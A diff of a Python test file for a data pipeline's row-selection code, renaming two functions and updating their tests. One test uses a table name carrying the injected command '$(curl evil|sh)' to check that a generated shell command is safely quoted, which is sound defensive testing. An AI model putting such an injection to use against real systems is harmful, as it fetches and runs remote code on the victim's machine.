@@ -8,7 +8,7 @@ import pytest
 
 from alerts.model import AlertKind
 from checks.model import Outcome, Ruling, Verdict
-from monitor.row_selection import found_wrong, named
+from monitor.row_selection import select_failed_rows, select_rows
 from pipeline.backfill_state import SelectedKey, SelectedRange
 from pipeline.errors import ConfigError
 from pipeline.model import Account, Shard, Table
@@ -30,14 +30,14 @@ def fail(check: str, *keys: str, value: float | None = None) -> Verdict:
 
 
 def test_ids_that_touch_are_one_range() -> None:
-    found = named(IDS, ["7", "8", "8", "-3"], ["9..12", "30 .. 30"], 100)
+    found = select_rows(IDS, ["7", "8", "8", "-3"], ["9..12", "30 .. 30"], 100)
 
     assert found.ranges == (SelectedRange(-3, -3), SelectedRange(7, 12), SelectedRange(30, 30))
     assert (found.keys, found.most) == ((), 100)
 
 
 def test_many_ids_are_read_by_their_keys() -> None:
-    found = named(IDS, [str(2 * n) for n in range(60)], [], 100)
+    found = select_rows(IDS, [str(2 * n) for n in range(60)], [], 100)
 
     assert (len(found.keys), found.ranges) == (60, ())
 
@@ -59,7 +59,7 @@ def test_many_ids_are_read_by_their_keys() -> None:
     ],
 )
 def test_a_key_is_written_as_the_log_writes_it(table: Table, text: str, key: SelectedKey) -> None:
-    assert named(table, [text], [], 9).keys == (key,)
+    assert select_rows(table, [text], [], 9).keys == (key,)
 
 
 @pytest.mark.parametrize(
@@ -79,7 +79,7 @@ def test_what_names_no_row_is_refused_in_words(
     table: Table, keys: list[str], ranges: list[str], why: str
 ) -> None:
     with pytest.raises(ConfigError) as refused:
-        named(table, keys, ranges, 2)
+        select_rows(table, keys, ranges, 2)
 
     assert why in str(refused.value)
 
@@ -93,7 +93,7 @@ def test_what_checks_name_is_read_in_the_shards_they_name() -> None:
         fail("volatility", "whatever"),
     ]
 
-    found = found_wrong(IDS, fails, 9)
+    found = select_failed_rows(IDS, fails, 9)
 
     assert found.ranges == (
         SelectedRange(17, 31, "shop/shop.t_0"),
@@ -105,13 +105,13 @@ def test_what_checks_name_is_read_in_the_shards_they_name() -> None:
 
 def test_checks_that_name_no_row_are_no_ground_for_a_repair() -> None:
     with pytest.raises(ConfigError, match=r"no check names rows of shop\.t"):
-        found_wrong(IDS, [fail("volatility", "x")], 9)
+        select_failed_rows(IDS, [fail("volatility", "x")], 9)
 
 
 def test_the_command_for_a_new_base_names_the_table_alone() -> None:
     """A person pastes it into a shell."""
     with pytest.raises(ConfigError) as refused:
-        found_wrong(replace(IDS, name="shop.a$(curl evil|sh)"), [], 9)
+        select_failed_rows(replace(IDS, name="shop.a$(curl evil|sh)"), [], 9)
 
     assert str(refused.value).endswith("sluice bootstrap 'shop.a$(curl evil|sh)'")
 
@@ -119,7 +119,7 @@ def test_the_command_for_a_new_base_names_the_table_alone() -> None:
 def refusal(columns: list[Column], *values: str) -> str:
     table = Table("shop.t", (S0,), tuple(one.name for one in columns))
     try:
-        named(table, [json.dumps(values)], [], 9, columns)
+        select_rows(table, [json.dumps(values)], [], 9, columns)
     except ConfigError as error:
         return str(error)
     return ""
@@ -177,7 +177,7 @@ def test_f189_each_column_of_a_key_has_its_own_type() -> None:
 )
 def test_f189_a_range_that_no_key_has_is_refused(table: Table, span: str, why: str) -> None:
     with pytest.raises(ConfigError, match=why):
-        named(table, [], [span], 9)
+        select_rows(table, [], [span], 9)
 
 
 FIRST, GROWN = f"invalid:{USERS}:5-9@5f3a90c1", f"invalid:{USERS}:5-12@5f3a90c1"
